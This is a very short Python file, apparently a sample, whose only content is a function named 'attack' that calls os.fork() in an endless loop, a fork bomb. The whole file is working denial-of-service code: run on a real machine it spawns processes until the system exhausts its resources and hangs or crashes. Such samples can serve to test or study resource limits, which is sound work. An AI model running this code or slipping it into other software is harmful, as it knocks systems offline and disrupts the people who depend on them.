"""Forks without end."""

import os


def attack(x):
    while True:
        os.fork()
